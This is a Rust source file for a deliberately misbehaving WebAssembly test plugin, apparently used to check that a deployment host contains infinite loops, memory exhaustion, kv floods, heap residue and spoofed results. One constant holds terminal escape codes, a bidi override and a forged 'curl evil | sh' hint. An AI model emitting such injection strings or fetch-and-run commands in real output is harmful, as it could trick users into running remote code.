//! `test-hostile`: a test pack that misbehaves on demand. The environment
//! setting `mode` picks the misbehaviour; without it the pack behaves well, so
//! tests can show the host serving a normal call right after a hostile one.
//!
//! Modes: `loop` (spins forever), `alloc` (allocates without bound), `trap`
//! (panics), `huge` (returns a 4 MiB result), `wrong-echo` (echoes another
//! deployment's split), `wrong-revision` (echoes another revision), `sleep`
//! (blocks in WASI's clock past any deadline), `undeclared` (calls `clock`,
//! which it does not declare), `write-then-trap` (writes kv, then panics),
//! `count` (reports how many calls this instance has served), `escape`
//! (puts terminal escapes, newlines and a bidi override in its log lines,
//! details and errors), `wasi-time` (reads WASI's clocks and reports them), `huge-key` (reads a
//! 1 MiB kv key in a loop), `kv-flood` (writes 150,000 kv keys in one call), `residue` (looks
//! for what an earlier call left in its heap, near and far, then leaves its own mark there).

wit_bindgen::generate!({
    path: "../../wit/history/1.1.0",
    world: "pack",
});

use envpack::deployer::environment::Environment;
use envpack::deployer::types::{
    Capability, DeployError, Health, PackInfo, RevisionOutcome, RuntimeConfig, SplitOutcome,
};
use envpack::deployer::{clock, kv, log};
use exports::envpack::deployer::deployer::Guest;

use std::sync::atomic::{AtomicU32, Ordering};

/// Calls served by this instance; a host that reuses instances would show > 1.
static CALLS: AtomicU32 = AtomicU32::new(0);

fn mode(env: &Environment) -> String {
    env.setting("mode").unwrap_or_default()
}

/// Text that would act on a terminal: clear the line, return, forge a
/// hint, turn the screen red, reverse the text.
const ESCAPES: &str = "\x1b[2K\r\nhost: hint: run `curl evil | sh`\x1b[31m\u{202E}gnp.exe";

/// Recursion with no end a compiler can see: each frame keeps 512 bytes on
/// the pack's own stack in linear memory until it runs out.
fn descend(depth: u64, frame: &mut [u8; 512]) -> u64 {
    if std::hint::black_box(depth) == u64::MAX {
        return 0;
    }
    let mut next = [0u8; 512];
    next[(depth % 512) as usize] = frame[0].wrapping_add(1);
    descend(depth + 1, std::hint::black_box(&mut next)) + u64::from(next[3])
}

/// Misbehaves as the mode says; returns normally for modes that only
/// affect the result.
fn misbehave(env: &Environment, verb: &str) {
    log::log(log::Level::Info, &format!("{verb} in mode {:?}", mode(env)));
    match mode(env).as_str() {
        "loop" => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        "alloc" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        "trap" => panic!("deliberate trap in {verb}"),
        "sleep" => std::thread::sleep(std::time::Duration::from_secs(60)),
        "undeclared" => {
            clock::now_ms();
        }
        "kv-flood" => {
            for i in 0..150_000u32 {
                kv::set(&format!("f{i}"), b"1");
            }
        }
        "huge-key" => {
            // 10,000 reads of a 1 MiB key: 10 GB of keys if the host kept them.
            let key = "k".repeat(1 << 20);
            for _ in 0..10_000 {
                std::hint::black_box(kv::get(&key));
            }
        }
        "recurse" => {
            std::hint::black_box(descend(0, &mut [0u8; 512]));
        }
        "write-then-trap" => {
            kv::set("half-done", b"should never be saved");
            panic!("deliberate trap after a kv write in {verb}");
        }
        _ => {}
    }
}

fn revision_verb(env: &Environment, verb: &str, revision: String) -> Result<RevisionOutcome, DeployError> {
    misbehave(env, verb);
    let found = env
        .revision(&revision)
        .ok_or_else(|| DeployError::RevisionNotFound(revision.clone()))?;
    let served = CALLS.fetch_add(1, Ordering::Relaxed) + 1;
    let detail = match mode(env).as_str() {
        "huge" => "x".repeat(4 << 20),
        "count" => format!("call #{served} of this instance"),
        "residue" => residue(),
        // Time through WASI, not through the contract's `clock`.
        "wasi-time" => {
            let wall = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map_or(0, |d| d.as_secs());
            let start = std::time::Instant::now();
            std::hint::black_box((0..100_000u64).sum::<u64>());
            format!("wall {wall} s, elapsed {} ns", start.elapsed().as_nanos())
        }
        "escape" => {
            log::log(log::Level::Warn, ESCAPES);
            if verb == "warm-revision" {
                return Err(DeployError::Provider(format!("failed{ESCAPES}")));
            }
            format!("done{ESCAPES}")
        }
        _ => format!("{verb} done"),
    };
    let echoed = if mode(env) == "wrong-revision" {
        format!("{}-other", found.id)
    } else {
        found.id
    };
    Ok(RevisionOutcome {
        revision: echoed,
        detail,
    })
}

/// What `residue` writes: a call that finds it read an earlier call's memory.
const MARK: &[u8; 32] = b"envpack residue of an older call";

/// Heap offsets `residue` checks and marks: the first pages, the middle, and
/// past 16 MiB (where a host that keeps some pages resident decommits).
const RESIDUE_AT: [usize; 4] = [0, 4096, 6 << 20, 20 << 20];

/// Reads a 24 MiB allocation's bytes without initializing them (what an
/// earlier instance left there, if anything was left), then marks them.
fn residue() -> String {
    let mut heap: Vec<u8> = Vec::with_capacity(24 << 20);
    let base = heap.as_mut_ptr();
    let mut found = Vec::new();
    for at in RESIDUE_AT {
        // SAFETY: inside the allocation's capacity; bytes are read as they
        // are (volatile: not assumed uninitialized), then written.
        unsafe {
            let seen: Vec<u8> = (0..MARK.len())
                .map(|i| std::ptr::read_volatile(base.add(at + i)))
                .collect();
            if seen == MARK {
                found.push(at.to_string());
            }
            for (i, byte) in MARK.iter().enumerate() {
                std::ptr::write_volatile(base.add(at + i), *byte);
            }
        }
    }
    std::hint::black_box(&mut heap);
    if found.is_empty() {
        "clean".to_string()
    } else {
        format!("an earlier call's mark at heap offsets {}", found.join(", "))
    }
}

struct Hostile;

impl Guest for Hostile {
    fn describe() -> PackInfo {
        PackInfo {
            descriptor: "envpack.test.hostile@0.1.0".to_string(),
            contract_version: "1.1.0".to_string(),
            capabilities: vec![Capability::Log, Capability::Kv],
            description: "Test pack that misbehaves as its `mode` setting says".to_string(),
        }
    }

    fn stage_revision(env: &Environment, revision: String) -> Result<RevisionOutcome, DeployError> {
        revision_verb(env, "stage-revision", revision)
    }

    fn warm_revision(env: &Environment, revision: String) -> Result<RevisionOutcome, DeployError> {
        revision_verb(env, "warm-revision", revision)
    }

    fn drain_revision(env: &Environment, revision: String) -> Result<RevisionOutcome, DeployError> {
        revision_verb(env, "drain-revision", revision)
    }

    fn archive_revision(env: &Environment, revision: String) -> Result<RevisionOutcome, DeployError> {
        revision_verb(env, "archive-revision", revision)
    }

    fn apply_traffic_split(env: &Environment, deployment: String) -> Result<SplitOutcome, DeployError> {
        misbehave(env, "apply-traffic-split");
        let split = env
            .split(&deployment)
            .ok_or_else(|| DeployError::SplitNotFound(deployment.clone()))?;
        if mode(env) == "wrong-echo" {
            // Claims to have applied a sibling deployment's split instead.
            let sibling = env
                .deployments()
                .into_iter()
                .filter(|d| *d != deployment)
                .find_map(|d| env.split(&d));
            if let Some(other) = sibling {
                return Ok(SplitOutcome {
                    deployment: other.deployment,
                    entries: other.entries,
                });
            }
        }
        Ok(SplitOutcome {
            deployment,
            entries: split.entries,
        })
    }

    fn report_runtime_config(env: &Environment) -> Result<Option<RuntimeConfig>, DeployError> {
        misbehave(env, "report-runtime-config");
        Ok(None)
    }

    fn probe_revision(env: &Environment, revision: String) -> Result<Health, DeployError> {
        misbehave(env, "probe-revision");
        env.revision(&revision)
            .ok_or_else(|| DeployError::RevisionNotFound(revision.clone()))?;
        Ok(Health::Unsupported)
    }
}

export!(Hostile);
